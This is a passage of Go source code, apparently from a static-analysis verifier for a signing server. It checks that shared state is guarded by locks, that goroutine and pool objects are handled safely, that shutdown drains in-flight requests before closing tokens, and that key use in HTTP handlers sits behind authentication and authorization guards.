		f := p.Func(spec)
		if f == nil {
			c.Undecided("R14a", spec, "-", "concurrent entry point not found (renamed?): update the entry table")
			continue
		}
		out = append(out, withClosures(f)...)
	}
	return out
}

// onceClosures: function literals passed to (*sync.Once).Do.
func (p *Prog) onceClosures() map[*ssa.Function]bool {
	out := map[*ssa.Function]bool{}
	for _, fn := range p.Funcs {
		for _, ci := range p.callsIn(fn, "(*sync.Once).Do") {
			switch v := ci.Common().Args[1].(type) {
			case *ssa.MakeClosure:
				if f, ok := v.Fn.(*ssa.Function); ok {
					out[f] = true
				}
			case *ssa.Function:
				out[v] = true
			}
		}
	}
	return out
}

var c14GuardTable = []struct{ obj, lock, why string }{
	{"f:token/tokencache.Cache.keys", "f:token/tokencache.Cache.mu", "key cache shared by all requests for a token"},
	{"g:internal/signinit.ts", "g:internal/signinit.mu", "lazily created timestamper"},
	{"f:token/worker.WorkerToken.procs", "f:token/worker.WorkerToken.mu", "worker process table"},
	{"f:internal/closeonce.Closed.err", "f:internal/closeonce.Closed.mu", "close-once result"},
	{"g:server.healthStatus", "g:server.healthMu", "health counter"},
	{"g:server.healthLastPing", "g:server.healthMu", "health timestamp"},
	{"g:token/p11token.providerMap", "g:token/p11token.providerMutex", "PKCS#11 provider handles"},
}

// c14GoExceptions: go statements whose spawner legitimately keeps using a handed-over object.
var c14GoExceptions = map[string]string{
	"lib/compresshttp.CompressRequest go#1": "readBlocker synchronises through sync/atomic on its closed flag; the spawner only stores the pointer so that closing the request body also blocks further reads by the compressor",
}

func runC14(c *Ctx) {
	defer round7C14(c)
	p := c.P
	c.Rule("R14a", "no unsynchronised write of a package-level variable in code reachable from a concurrent entry point", 5)
	c.Rule("R14b", "every access to a guarded shared object holds its mutex", 15)
	c.Rule("R14c", "per-request objects are fresh allocations", 3)
	c.Rule("R14e", "an object handed back to a sync.Pool is not used again by the function that returned it", 0)
	c.Rule("R14f", "a function that starts a goroutine does not use the mutable objects it handed to it again before joining it (channel receive or Wait)", 15)
	c.Rule("R14d", "shutdown waits for handlers; the health loop is signalled before tokens close", 3)

	entries := p.concurrentEntries(c)
	// every registered Signer.Sign runs on the request path through a function value
	for f := range p.registeredSignerFuncs("Sign") {
		entries = append(entries, f)
	}
	reachSet := p.moduleReachOpt(entries, false)
	c.Note("R14a: %d concurrent entry functions, %d module functions reachable", len(entries), len(reachSet))
	once := p.onceClosures()
	exceptions := map[string]string{}
	if st := healthStarter(p); st != nil {
		exceptions[p.FName(st)] = "initialises the health counters before `go healthCheckLoop` shares them (checked by C20 R20b)"
	}
	var fns []*ssa.Function
	for f := range reachSet {
		fns = append(fns, f)
	}
	sort.Slice(fns, func(i, j int) bool { return p.FName(fns[i]) < p.FName(fns[j]) })
	nW := 0
	for _, fn := range fns {
		if fn.Name() == "init" || strings.HasPrefix(fn.Name(), "init#") {
			continue
		}
		var held map[ssa.Instruction]lockState
		n := map[string]int{}
		for _, a := range p.accessesOf(fn, nil) {
			if !a.Write || !strings.HasPrefix(a.Key, "g:") {
				continue
			}
			if strings.HasPrefix(a.Key, "g:github.com/") || !strings.Contains(a.Key, ".") {
				// third-party globals are configuration of those libraries (SetupLogging at start-up)
			}
			nW++
			n[a.Key]++
			key := fmt.Sprintf("%s writes %s#%d", p.FName(fn), a.Key, n[a.Key])
			c.Analysed(p.FName(fn))
			if held == nil {
				held = p.heldLocks(fn)
			}
			switch {
			case anyExclusive(held[a.Instr]):
				c.Pass("R14a", key, p.Pos(a.Instr.Pos()), fmt.Sprintf("mutex held: %v", sortedKeys(held[a.Instr])))
			case once[fn]:
				c.Pass("R14a", key, p.Pos(a.Instr.Pos()), "inside a sync.Once.Do closure")
			case exceptions[p.FName(fn)] != "" && strings.HasPrefix(a.Key, "g:server.health"):
				c.PassTrivial("R14a", key, p.Pos(a.Instr.Pos()), "exception: "+exceptions[p.FName(fn)])
			default:
				c.Fail("R14a", key, p.Pos(a.Instr.Pos()), "package-level variable written without synchronisation from code that runs concurrently for different requests: requests can observe or overwrite each other's state")
			}
		}
	}
	// ---- R14m: the drain deadline of the shutdown (and every other duration on the server's paths) has a unit
	c.Rule("R14m", "an integer becomes a time.Duration only together with a unit (module-wide)", 5)
	for _, f := range durationsCarryAUnit(p, nil) {
		c.Check(f.OK, "R14m", f.Key, f.Pos, "", f.Detail)
	}
	// ---- R14l: one card operation at a time on the scdaemon connection
	c.Rule("R14l", "every call from token/scdtoken into lib/assuan over the token's connection holds the token's mutex", 3)
	for _, f := range scdConnectionSerialised(p) {
		c.Check(f.OK, "R14l", f.Key, f.Pos, "", f.Detail)
	}
	// ---- R14k: cached keys hold no request context
	c.Rule("R14k", "no token's GetKey stores the context of the fetching call into the key object it returns (the cache serves that object to later requests)", 5)
	for _, f := range keysHoldNoRequestContext(p) {
		c.Check(f.OK, "R14k", f.Key, f.Pos, "", f.Detail)
	}
	// ---- R14j: concurrent appenders of the audit file (C06 R06e shared)
	c.Rule("R14j", "the audit file is opened O_APPEND and each record goes out in one Write call, so records of concurrent requests do not interleave (shared with C06 R06e)", 3)
	c06Append(c, "R14j", "R14j")
	// ---- R14i: the option definitions are shared by every request and stay read-only there
	c.Rule("R14i", "no code reachable from a concurrent entry point calls a mutating method of the shared option definitions (pflag.Value.Set, FlagSet.Set / Parse)", 1)
	nFlagFns, nMut := 0, 0
	for _, fn := range fns {
		uses := false
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				ci, ok := in.(ssa.CallInstruction)
				if !ok {
					continue
				}
				name := p.calleeName(ci.Common())
				if !strings.Contains(name, "github.com/spf13/pflag") {
					continue
				}
				uses = true
				mut := false
				for _, suffix := range []string{"pflag.Value).Set", "pflag.FlagSet).Set", "pflag.FlagSet).Parse", "pflag.FlagSet).ParseAll", "pflag.FlagSet).SetAnnotation", "pflag.FlagSet).MarkHidden", "pflag.FlagSet).MarkDeprecated", "pflag.FlagSet).AddFlag", "pflag.FlagSet).AddFlagSet"} {
					if strings.HasSuffix(name, suffix) {
						mut = true
					}
				}
				if mut {
					nMut++
					c.Fail("R14i", fmt.Sprintf("%s calls %s#%d", p.FName(fn), name[strings.LastIndex(name, "/")+1:], nMut), p.Pos(in.Pos()), "a mutating method of a flag definition is called from code that runs concurrently for different requests: the definitions (Signer.flags, the common set) are one object for all requests, so between Set and the read-back another request's value is seen and a request is signed with another request's option")
				}
			}
		}
		if uses {
			nFlagFns++
			c.Analysed(p.FName(fn))
		}
	}
	c.Check(nFlagFns >= 1, "R14i", "request-path functions that touch the option definitions", "-", fmt.Sprintf("%d functions examined, %d mutating calls", nFlagFns, nMut), "no request-path function touches pflag at all (FlagsFromQuery's VisitAll did): the rule went vacuous")
	c.Check(nW >= 4, "R14a", "request-path global writers", "-", fmt.Sprintf("%d writes examined", nW), fmt.Sprintf("only %d writes of package-level variables found on request paths (4 confirmed by reading: health counters x2, lazily built hash table, timestamper)", nW))

	// ---- R14b
	objs := map[string]string{}
	for _, g := range c14GuardTable {
		objs[g.obj] = g.lock
	}
	seenObj := map[string]int{}
	for _, fn := range p.Funcs {
		keys := map[string]bool{}
		for k := range objs {
			keys[k] = true
		}
		accs := p.accessesOf(fn, keys)
		if len(accs) == 0 {
			continue
		}
		held := p.heldLocks(fn)
		n := map[string]int{}
		for _, a := range accs {
			n[a.Key]++
			seenObj[a.Key]++
			kind := "read"
			if a.Write {
				kind = "write"
			}
			key := fmt.Sprintf("%s %s %s#%d", p.FName(fn), kind, a.Key, n[a.Key])
			c.Analysed(p.FName(fn))
			// constructor of a fresh object: the base is allocated in this function
			if freshBase(a.Instr) {
				c.PassTrivial("R14b", key, p.Pos(a.Instr.Pos()), "object under construction, not yet shared")
				continue
			}
			if why, ok := exceptions[p.FName(fn)]; ok && strings.HasPrefix(a.Key, "g:server.health") {
				c.PassTrivial("R14b", key, p.Pos(a.Instr.Pos()), "exception: "+why)
				continue
			}
			if lockOK(held[a.Instr], objs[a.Key], a.Write) {
				c.Pass("R14b", key, p.Pos(a.Instr.Pos()), objs[a.Key]+" held")
			} else {
				c.Fail("R14b", key, p.Pos(a.Instr.Pos()), fmt.Sprintf("%s is %s without holding %s%s", a.Key, map[bool]string{true: "written", false: "read"}[a.Write], objs[a.Key], map[bool]string{true: " exclusively (a shared RLock does not license a write)", false: ""}[a.Write && held[a.Instr][objs[a.Key]+"#r"]]))
			}
		}
	}
	for _, g := range c14GuardTable {
		if seenObj[g.obj] == 0 {
			c.Undecided("R14b", g.obj, "-", "guarded object of the frozen table not found (renamed or removed): update the table")
		}
	}

	// ---- R14e / R14f
	for _, f := range poolUseAfterPut(p) {
		c.Check(f.OK, "R14e", f.Key, f.Pos, "no use after Put", "the object is still used after it was put back into the pool ("+f.Detail+"): the pool can hand it to a concurrent request in between, so two requests write through one object")
	}
	c.runControl("R14e pool use-after-Put", "pool.Bad", poolUseAfterPut)
	for _, f := range poolEscapes(p) {
		c.Check(f.OK, "R14e", f.Key, f.Pos, "the pooled memory is not handed out elsewhere", f.Detail)
	}
	c.runControl("R14e pooled memory also returned", "hasher).release", poolEscapes)
	for _, f := range poolDoublePut(p) {
		c.Check(f.OK, "R14e", f.Key, f.Pos, "the field is cleared", f.Detail)
	}
	c.runControl("R14e pooled object kept in the receiver", "twice.w).Close", poolDoublePut)
	c.Rule("R14g", "a request handler closure captures no value of a type that accumulates into its own buffer (zerolog.Context)", 0)
	for _, f := range handlerCaptures(p) {
		c.Check(f.OK, "R14g", f.Key, f.Pos, "", f.Detail)
	}
	c.runControl("R14g shared log context control (ctl/sharedctx.Middleware)", "sharedctx.", handlerCaptures)
	c.Rule("R14h", "no function returns the bytes of a buffer that lives in a longer-lived object", 0)
	for _, f := range sharedBufferViews(p) {
		c.Check(f.OK, "R14h", f.Key, f.Pos, "", f.Detail)
	}
	c.runControl("R14h shared buffer view control (ctl/sharedbuf.Client)", "sharedbuf.", sharedBufferViews)
	sites, shares := goroutineShares(p)
	badGo := map[*ssa.Go][]goShare{}
	for _, s := range shares {
		badGo[s.Go] = append(badGo[s.Go], s)
	}
	nGo := map[*ssa.Function]int{}
	for _, fn := range p.Funcs {
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				g, ok := in.(*ssa.Go)
				if !ok {
					continue
				}
				nGo[fn]++
				key := fmt.Sprintf("%s go#%d", p.FName(fn), nGo[fn])
				c.Analysed(p.FName(fn))
				if ss := badGo[g]; len(ss) > 0 {
					s := ss[0]
					if why, ok := c14GoExceptions[key]; ok {
						c.PassTrivial("R14f", key, p.Pos(g.Pos()), "exception: "+why)
						continue
					}
					c.Fail("R14f", key, p.Pos(g.Pos()), fmt.Sprintf("%s is handed to the goroutine and used again by the spawner at %s before any join: the two run concurrently on the same object (%d such uses)", s.What, p.Pos(s.Use.Pos()), len(ss)))
				} else {
					c.Pass("R14f", key, p.Pos(g.Pos()), "spawner does not touch the handed-over mutable objects before joining")
				}
			}
		}
	}
	_ = sites
	c.runControl("R14f goroutine hand-over", "goshare.Bad", goShareFindings)

	// ---- R14c
	for _, spec := range []string{"lib/audit.New", "signers.(*Signer).FlagsFromQuery", "internal/signinit.Init", "internal/signinit.InitKey"} {
		fn := p.Func(spec)
		if fn == nil {
			c.Undecided("R14c", spec, "-", "function not found")
			continue
		}
		c.Analysed(p.FName(fn))
		ok := true
		n := 0
		for _, r := range p.successReturns(fn) {
			for i, v := range retVals(r) {
				if _, isPtr := fn.Signature.Results().At(i).Type().Underlying().(*typesPointer); !isPtr {
					continue
				}
				n++
				for _, lf := range phiLeaves(v, nil, map[*ssa.Phi]bool{}) {
					switch x := stripConv(lf.V).(type) {
					case *ssa.Alloc:
						// fresh
					case *ssa.Extract, *ssa.Call:
						// result of a constructor call: a module function must itself return fresh objects
						_ = x
						if !p.returnsFresh(lf.V, 0) {
							ok = false
						}
					default:
						if isNilConst(lf.V) {
							continue
						}
						ok = false
					}
					if dependsOnGlobalAddr(lf.V) {
						ok = false
					}
				}
			}
		}
		c.Check(ok && n > 0, "R14c", p.FName(fn)+" returns fresh objects", p.Pos(fn.Pos()), "returned pointers are new allocations", "a per-request object is not freshly allocated (it aliases package-level or longer-lived state shared between requests)")
	}

	// ---- R14d
	if fn := p.Func("server/daemon.(*Daemon).Close"); fn == nil {
		c.Undecided("R14d", "(*Daemon).Close", "-", "function not found")
	} else {
		c.Analysed(p.FName(fn))
		var body *ssa.Function
		for _, ci := range p.callsIn(fn, "(*golang.org/x/sync/errgroup.Group).Go") {
			if mc, ok := ci.Common().Args[1].(*ssa.MakeClosure); ok {
				body, _ = mc.Fn.(*ssa.Function)
			}
		}
		waits := false
		for _, r := range returnsOf(fn) {
			call, _ := resultOf(retVal(r, 0))
			if call != nil && p.calleeName(call.Common()) == "(*golang.org/x/sync/errgroup.Group).Wait" {
				waits = true
			}
		}
		okOrder := false
		if body != nil {
			sd := p.callsIn(body, "(*net/http.Server).Shutdown")
			cl := p.callsIn(body, "(*server.Server).Close")
			if len(sd) == 1 && len(cl) >= 1 {
				okOrder = true
				for _, c1 := range cl {
					if avoidable(body, sd[0], c1) || reachableAfter(body, c1, sd[0], nil, nil) {
						okOrder = false
					}
				}
			}
		}
		c.Check(body != nil && waits && okOrder, "R14d", "(*server/daemon.Daemon).Close drains before closing tokens", p.Pos(fn.Pos()), "Shutdown precedes Server.Close inside the errgroup; Close returns eg.Wait()", fmt.Sprintf("shutdown does not wait for in-flight requests before closing tokens (in errgroup:%v waits:%v shutdown-before-close:%v)", body != nil, waits, okOrder))
	}
	// Server.Close (which closes the tokens) has exactly one caller: the drain closure of Daemon.Close
	{
		var callers []string
		okCallers := true
		for _, f := range p.Funcs {
			for _, ci := range p.callsIn(f, "(*server.Server).Close") {
				outer := p.FName(p.Outer(f))
				callers = append(callers, p.FName(f))
				switch {
				case outer == "(*server/daemon.Daemon).Close":
					// the drain step (order checked above)
				case strings.HasPrefix(outer, "cmdline/"):
					// one-shot commands that never served a request
				case f == p.Outer(f) && len(p.successReturns(f)) > 0:
					// clean-up in a constructor on a path that hands out no server: every return
					// reachable afterwards returns a nil first result (failure, or the config test mode)
					for _, r := range returnsOf(f) {
						if reachableAfter(f, ci, r, nil, nil) && len(r.Results) > 0 && !isNilConst(retVal(r, 0)) {
							okCallers = false
						}
					}
				default:
					okCallers = false
				}
			}
		}
		if len(callers) == 0 {
			okCallers = false
		}
		c.Check(okCallers, "R14d", "(*server.Server).Close is called only from Daemon.Close", "-", fmt.Sprint(callers), fmt.Sprintf("Server.Close (which closes the tokens) is also called from %v: a caller other than Daemon.Close's drain step (for instance an http.Server shutdown hook, which runs when shutdown BEGINS) closes tokens under in-flight requests", callers))
	}
	if fn := p.Func("server/daemon.(*Daemon).Serve"); fn != nil {
		// Serve treats ErrServerClosed as a clean exit and waits for the group
		waits := false
		for _, r := range returnsOf(fn) {
			call, _ := resultOf(retVal(r, 0))
			if call != nil && p.calleeName(call.Common()) == "(*golang.org/x/sync/errgroup.Group).Wait" {
				waits = true
			}
		}
		c.Check(waits, "R14d", "(*server/daemon.Daemon).Serve waits for the group", p.Pos(fn.Pos()), "", "Serve returns without waiting for the serving goroutines and the shutdown to finish")
	} else {
		c.Undecided("R14d", "(*Daemon).Serve", "-", "function not found")
	}
	if fn := p.Func("server.(*Server).Close"); fn != nil {
		st := serverCloseSteps(p, fn)
		closeCall := st.sigSite
		ok := closeCall != nil
		for _, tc := range st.tokSites {
			if closeCall != nil && (tc == closeCall || reachableAfter(fn, tc, closeCall, nil, nil)) {
				ok = false
			}
		}
		c.Check(ok, "R14d", "(*server.Server).Close signals before closing tokens", p.Pos(fn.Pos()), "", "tokens are closed before (or without) signalling the health loop")
	}
	if fn := p.Func("token/worker.(*WorkerToken).Close"); fn != nil {
		// the observation behind not arming the atomic/plain rule: wg.Wait precedes notify.Close
		found := false
		for _, f := range withClosures(fn) {
			wg := p.callsIn(f, "(*sync.WaitGroup).Wait")
			var nc []ssa.CallInstruction
			for _, b := range f.Blocks {
				for _, in := range b.Instrs {
					if ci, ok := in.(ssa.CallInstruction); ok && strings.HasSuffix(p.calleeName(ci.Common()), "activatecmd.Listener).Close") {
						nc = append(nc, ci)
					}
				}
			}
			if len(wg) > 0 && len(nc) > 0 {
				found = true
				c.Check(!avoidable(f, wg[0], nc[0]), "R14d", "(*token/worker.WorkerToken).Close waits for spawners before closing the notify socket", p.Pos(nc[0].Pos()), "wg.Wait() precedes notify.Close()", "the notify listener is closed while spawners may still attach to it (that would make the closeonce atomic/plain mix a real race)")
			}
		}
		if !found {
			c.Undecided("R14d", "(*token/worker.WorkerToken).Close wait-before-notify-close", p.Pos(fn.Pos()), "wg.Wait() / notify.Close() pair not found: the argument for not arming the atomic/plain rule no longer holds")
		}
	} else {
		c.Undecided("R14d", "(*WorkerToken).Close", "-", "function not found")
	}
}

// freshBase: the access goes through an object allocated in this very function.
func freshBase(in ssa.Instruction) bool {
	var addr ssa.Value
	switch x := in.(type) {
	case *ssa.Store:
		addr = x.Addr
	case *ssa.UnOp:
		addr = x.X
	case *ssa.MapUpdate:
		if l, ok := x.Map.(*ssa.UnOp); ok {
			addr = l.X
		}
	}
	for i := 0; i < 6 && addr != nil; i++ {
		switch a := addr.(type) {
		case *ssa.FieldAddr:
			addr = a.X
		case *ssa.IndexAddr:
			addr = a.X
		case *ssa.Alloc:
			return true
		default:
			return false
		}
	}
	return false
}

func dependsOnGlobalAddr(v ssa.Value) bool {
	switch x := stripConv(v).(type) {
	case *ssa.Global:
		return true
	case *ssa.UnOp:
		_, ok := x.X.(*ssa.Global)
		return ok
	}
	return false
}

// returnsFresh: v is the result of a call; if the callee is a module function, each pointer it
// returns at that position must be a new allocation (or, recursively, the fresh result of
// another call). A value read from a map, a global or a field is not fresh.
func (p *Prog) returnsFresh(v ssa.Value, depth int) bool {
	if depth > 3 {
		return true
	}
	call, idx := resultOf(v)
	if call == nil {
		return true
	}
	g := call.Common().StaticCallee()
	if g == nil || g.Blocks == nil || !p.InModule(pkgOf(g)) {
		return true
	}
	if idx < 0 {
		idx = 0
	}
	for _, r := range returnsOf(g) {
		if idx >= len(r.Results) {
			continue
		}
		for _, lf := range phiLeaves(retVal(r, idx), nil, map[*ssa.Phi]bool{}) {
			switch x := stripConv(lf.V).(type) {
			case *ssa.Alloc:
			case *ssa.Const:
			case *ssa.Extract, *ssa.Call:
				if !p.returnsFresh(x.(ssa.Value), depth+1) {
					return false
				}
			case *ssa.Parameter:
				// handing a parameter back is the caller's business
			default:
				return false
			}
		}
	}
	return true
}
