package main

// C04 — a key is used only for callers entitled to it.

import (
	"fmt"
	"go/token"
	"go/types"
	"regexp"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

func init() {
	register(&propDef{
		ID: "C04",
		Meta: propMeta{
			Explanation: "Decides on every path of the server's handlers that the authorization mechanisms are in front of every key use: (R04a) every chi route other than the frozen public set {/health, /directory} is registered on a router derived from With(authmodel.Middleware(s.auth)), and the middleware calls the next handler only after Authenticate returned a nil error, with the authenticated UserInfo in the request context; (R04b) in every authenticated handler, any touch of Server.tokens, signinit.Init/InitKey, Token.GetKey or Key.Sign* (directly or through same-package helpers) is guarded by Config.GetKey err==nil AND UserInfo.Allowed(keyConf)==true where keyConf is the value that GetKey returned, and the token/key actually used derive from that keyConf / the same key name; (R04c) the failing sides of those guards return httperror problems whose Status folds to 401/403, as do the named refusals of the authenticators; (R04d) identity-bearing headers (X-Forwarded-*, Forwarded, X-Real-Ip, Ssl-Client-*) and TLS peer certificates are read only inside internal/realip, headers only on the trusted-proxy side, RemoteAddr is assigned only by realip.Middleware, and the trusted marker is set only under `proxied`; (R04e) no dereference of a missed map lookup anywhere in the module (malformed configuration yields an error, not a crash); (R04f) the key listing appends a name only when entry and resolved alias are not hidden, the alias resolved, and Allowed(resolved) is true; (R04g) each Authenticator returns success only after the client was recognised / the policy allowed, and the roles come from the recognised client; Allowed implementations return true only from a role/key equality; (R04i) trust configuration is used as configured: on the authentication path certificates are added only to pools created by that very call (never to a configured pool), trusted_proxies entries are parsed verbatim, and a bare address gets the full-length mask of its address family; every store into ClientConfig.certs stores the result of x509.NewCertPool() made at that site (one pool per entry), and the client entry CertificateAuth.Authenticate recognises a caller as is nil, a lookup in Config.Clients or a range value behind Match()==true (no remembered verdicts). (R04h) in a handler that resolves a key, every use of the ResponseWriter after the lookup and every success return is behind GetKey err==nil and Allowed(keyConf)==true.",
			NotDecided:  "correctness of X.509 chain matching (crypto/x509), of the OPA policy's answers, 401-vs-403 chosen by policy text at run time, and whether role-set semantics beyond 'an equality test guards true' are right.",
			Assumptions: []string{"chi applies With() middlewares to every route registered on the derived router", "http.Request context values are only set by the middlewares enumerated"},
		},
		Run: runC04,
	})
}

var chiRegister = map[string]bool{"Get": true, "Post": true, "Put": true, "Patch": true, "Delete": true, "Head": true, "Options": true, "Connect": true, "Trace": true,
	"Handle": true, "HandleFunc": true, "Method": true, "MethodFunc": true, "Mount": true, "Route": true, "Group": true, "NotFound": true, "MethodNotAllowed": true}

var publicRoutes = map[string]string{
	"/health":    "load-balancer health probe, no key material",
	"/directory": "cluster sibling list needed before a client can authenticate",
}

var identityHeader = regexp.MustCompile(`(?i)^(x-forwarded-|forwarded$|x-real-ip|x-client-|ssl-client-|x-ssl-)`)

func isChiCall(p *Prog, c *ssa.CallCommon) (string, bool) {
	obj := calleeObj(c)
	if obj == nil || obj.Pkg() == nil || !strings.HasPrefix(obj.Pkg().Path(), "github.com/go-chi/chi") {
		return "", false
	}
	return obj.Name(), true
}

func chiRecv(c *ssa.CallCommon) ssa.Value {
	if c.IsInvoke() {
		return c.Value
	}
	if len(c.Args) > 0 {
		return c.Args[0]
	}
	return nil
}

func chiArgs(c *ssa.CallCommon) []ssa.Value {
	if c.IsInvoke() {
		return c.Args
	}
	if len(c.Args) > 0 {
		return c.Args[1:]
	}
	return nil
}

// boundMethod resolves handleFunc(s.serveX) / s.serveX to the method's function.
func (p *Prog) handlerFunc(v ssa.Value) *ssa.Function {
	v = stripConv(v)
	switch x := v.(type) {
	case *ssa.MakeClosure:
		fn := x.Fn.(*ssa.Function)
		if obj, ok := fn.Object().(*types.Func); ok && obj != nil {
			if f := p.FuncOf(obj); f != nil {
				return f
			}
		}
		// bound wrapper: body is a single call to the method
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				if ci, ok := in.(ssa.CallInstruction); ok {
					if sc := ci.Common().StaticCallee(); sc != nil && sc.Blocks != nil {
						return sc
					}
				}
			}
		}
		return fn
	case *ssa.Function:
		return x
	case *ssa.Call:
		// wrapper such as handleFunc(f): the handler is the function-typed argument
		for _, a := range x.Call.Args {
			if _, ok := a.Type().Underlying().(*types.Signature); ok {
				if f := p.handlerFunc(a); f != nil {
					return f
				}
			}
		}
	}
	return nil
}

func runC04(c *Ctx) {
	p := c.P
	const (
		ra = "R04a"
		rb = "R04b"
		rc = "R04c"
		rd = "R04d"
		re = "R04e"
		rf = "R04f"
		rg = "R04g"
	)
	c.Rule(ra, "every non-public route is registered behind authmodel.Middleware(s.auth); the middleware forwards only authenticated requests", 8)
	c.Rule(rb, "token/key use in handlers is guarded by GetKey err==nil and Allowed(that keyConf)==true; token and key name derive from the authorized key", 6)
	c.Rule(rc, "authorization/authentication refusals are httperror problems with Status 401 or 403", 5)
	c.Rule(rd, "identity-bearing request inputs are read only in internal/realip on the trusted side; RemoteAddr and the trusted marker are set only by realip.Middleware", 7)
	c.Rule(re, "no dereference of a missed map lookup (pointer element) anywhere in the module", 10)
	c.Rule(rf, "list_keys appends a name only if not hidden (entry and resolved), resolved != nil and Allowed(resolved)", 1)
	c.Rule("R04h", "in a handler that resolves a key, every use of the ResponseWriter after the lookup and every success return is guarded by GetKey err==nil and Allowed(keyConf)==true", 4)
	c.Rule("R04i", "the trust configuration is used as configured: no request-time additions to configured certificate pools; one pool per client entry; proxy networks parsed verbatim with full-length host masks", 4)
	c.Rule(rg, "authenticators succeed only for recognised clients / allowed policy decisions; Allowed returns true only from an equality of role or key name", 6)

	authHandlers := c04Routes(c, ra)
	c04Middleware(c, ra)
	c04KeyUse(c, rb, rc, authHandlers)
	c04Identity(c, rd)
	// R04e
	n := 0
	for _, f := range nilRegionDerefs(p) {
		n++
		if f.OK {
			c.PassTrivial(re, f.Key, f.Pos, "no dereference in the missed-lookup region")
		} else {
			c.Fail(re, f.Key, f.Pos, f.Detail, f.Path...)
		}
	}
	c.runControl("R04e map-miss nil dereference control (ctl/nilmap.(*C).Get)", "nilmap.C).Get nil-deref", nilRegionDerefs)
	c04Listing(c, rf)
	c04Authenticators(c, rg, rc)
	c04TrustConfig(c)
}

// c04Routes checks route registrations and returns the handler functions that run
// behind the authentication middleware.
func c04Routes(c *Ctx, ra string) []*ssa.Function {
	p := c.P
	h := p.Func("server.(*Server).Handler")
	if h == nil {
		c.Undecided(ra, "(*Server).Handler", "-", "function not found")
		return nil
	}
	c.Analysed(p.FName(h))
	isAuthMW := func(v ssa.Value) bool {
		return dependsOn(v, func(x ssa.Value) bool {
			call, ok := x.(*ssa.Call)
			if !ok || p.calleeName(call.Common()) != "internal/authmodel.Middleware" {
				return false
			}
			return dependsOn(call.Call.Args[0], func(y ssa.Value) bool { return p.isFieldOf(y, "server.Server", "auth") })
		})
	}
	// routers that carry the auth middleware: results of With(...)/Group with it
	authRouter := map[ssa.Value]bool{}
	var useCalls []ssa.CallInstruction
	for _, b := range h.Blocks {
		for _, in := range b.Instrs {
			ci, ok := in.(ssa.CallInstruction)
			if !ok {
				continue
			}
			name, ok := isChiCall(p, ci.Common())
			if !ok {
				continue
			}
			switch name {
			case "With":
				args := chiArgs(ci.Common())
				recv := chiRecv(ci.Common())
				carries := authRouter[recv]
				for _, a := range args {
					if isAuthMW(a) {
						carries = true
					}
				}
				if carries {
					if v, ok := ci.(ssa.Value); ok {
						set, _ := aliasesOf(v)
						for a := range set {
							authRouter[a] = true
						}
					}
				}
			case "Use":
				for _, a := range chiArgs(ci.Common()) {
					if isAuthMW(a) {
						useCalls = append(useCalls, ci)
					}
				}
			}
		}
	}
	var handlers []*ssa.Function
	nPub, nAuth := 0, 0
	for _, b := range h.Blocks {
		for _, in := range b.Instrs {
			ci, ok := in.(ssa.CallInstruction)
			if !ok {
				continue
			}
			name, ok := isChiCall(p, ci.Common())
			if !ok || !chiRegister[name] {
				continue
			}
			args := chiArgs(ci.Common())
			var pattern string
			var hv ssa.Value
			for _, a := range args {
				if s, ok := constString(a); ok && strings.HasPrefix(s, "/") && pattern == "" {
					pattern = s
				}
				switch a.Type().Underlying().(type) {
				case *types.Signature, *types.Interface:
					hv = a
				}
				if _, ok := a.Type().(*types.Named); ok && hv == nil {
					hv = a
				}
			}
			key := fmt.Sprintf("(*server.Server).Handler route %s %s", name, pattern)
			if pattern == "" || name == "Route" || name == "Group" || name == "Mount" {
				c.Undecided(ra, key, p.Pos(ci.Pos()), "registration form the rule does not understand (sub-router / non-constant pattern): extend the rule before relying on it")
				continue
			}
			recv := chiRecv(ci.Common())
			behind := authRouter[recv]
			for _, u := range useCalls {
				if chiRecv(u.Common()) == recv && reachableAfter(h, u, ci, nil, nil) && !reachableAfter(h, ci, u, nil, nil) {
					behind = true
				}
			}
			if reason, pub := publicRoutes[pattern]; pub && !behind {
				nPub++
				c.PassTrivial(ra, key, p.Pos(ci.Pos()), "public by table: "+reason)
				continue
			}
			if behind {
				nAuth++
				if f := p.handlerFunc(hv); f != nil {
					handlers = append(handlers, f)
				} else {
					c.Undecided(ra, key+" handler", p.Pos(ci.Pos()), "cannot resolve the handler function of an authenticated route")
				}
				c.Pass(ra, key, p.Pos(ci.Pos()), "registered behind authmodel.Middleware(s.auth)")
			} else {
				c.Fail(ra, key, p.Pos(ci.Pos()), "route is registered on a router without the authentication middleware and is not in the public table {/health, /directory}")
			}
		}
	}
	c.Check(nAuth >= 4, ra, "(*server.Server).Handler authenticated-route count", p.Pos(h.Pos()), fmt.Sprintf("%d authenticated, %d public", nAuth, nPub), fmt.Sprintf("only %d routes are behind the authentication middleware (expected the 4 key-related routes)", nAuth))
	return handlers
}

func c04Middleware(c *Ctx, ra string) {
	p := c.P
	mw := p.Func("internal/authmodel.Middleware")
	if mw == nil {
		c.Undecided(ra, "authmodel.Middleware", "-", "function not found")
		return
	}
	authOK := p.callGuard("Authenticate err==nil", []string{"(internal/authmodel.Authenticator).Authenticate"}, 1, IsNil, nil)
	n := 0
	for _, fn := range withClosures(mw) {
		c.Analysed(p.FName(fn))
		for _, ci := range p.callsIn(fn, "(net/http.Handler).ServeHTTP") {
			// only the forwarding to `next` (a free variable / parameter of handler type), not error responders
			isNext := false
			switch v := ci.Common().Value.(type) {
			case *ssa.FreeVar, *ssa.Parameter:
				isNext = true
				_ = v
			case *ssa.UnOp:
				if _, ok := v.X.(*ssa.FreeVar); ok {
					isNext = true
				}
			}
			if !isNext {
				continue
			}
			n++
			missing, path := p.unguardedFromEntry(fn, ci, authOK)
			c.Check(len(missing) == 0, ra, "authmodel.Middleware forwards-after-authenticate", p.Pos(ci.Pos()), "next.ServeHTTP only when Authenticate returned nil error", "the inner handler runs although authentication failed", path...)
			// the forwarded request carries the authenticated info
			req := ci.Common().Args[1]
			carries := dependsOn(req, func(x ssa.Value) bool {
				call, ok := x.(*ssa.Call)
				if !ok || p.calleeName(call.Common()) != "context.WithValue" {
					return false
				}
				a, _ := resultOf(call.Call.Args[2])
				return a != nil && p.calleeName(a.Common()) == "(internal/authmodel.Authenticator).Authenticate"
			})
			c.Check(carries, ra, "authmodel.Middleware request-carries-userinfo", p.Pos(ci.Pos()), "forwarded request context holds Authenticate's UserInfo", "the forwarded request does not carry the UserInfo returned by Authenticate")
		}
	}
